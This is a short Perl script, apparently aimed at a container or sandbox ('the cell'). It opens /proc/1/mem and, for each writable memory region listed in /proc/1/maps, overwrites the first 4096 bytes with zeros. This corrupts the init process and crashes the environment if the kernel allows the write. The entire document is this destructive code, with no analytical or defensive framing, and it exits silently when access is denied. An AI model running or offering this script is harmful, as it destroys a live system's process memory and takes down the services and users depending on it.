# Overwrites the memory of the cell's init with zeros, if the kernel allows it.
use strict;
open(my $memory, "+<", "/proc/1/mem") or exit;
open(my $maps, "<", "/proc/1/maps") or exit;
while (<$maps>) {
  next unless /^([0-9a-f]+)-\S+ rw/;
  seek $memory, hex $1, 0;
  syswrite $memory, "\0" x 4096;
}
